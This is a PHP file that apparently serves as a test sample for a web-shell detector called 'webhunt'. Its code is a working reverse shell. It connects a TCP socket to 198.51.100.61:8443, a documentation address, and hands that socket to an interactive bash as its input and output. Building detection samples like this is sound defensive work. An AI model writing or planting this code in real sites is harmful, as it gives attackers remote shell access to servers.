<?php
// Inert test sample (webhunt): the socket itself is given to the shell as its standard input and
// output in the descriptor spec (no relay loop). The address is a documentation range.
$r = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
if (@socket_connect($r, '198.51.100.61', 8443)) {
    $fd = socket_export_stream($r);
    $spec = array(0 => $fd, 1 => $fd, 2 => $fd);
    $p = proc_open(array('bash', '-i'), $spec, $unused);
    proc_close($p);
}
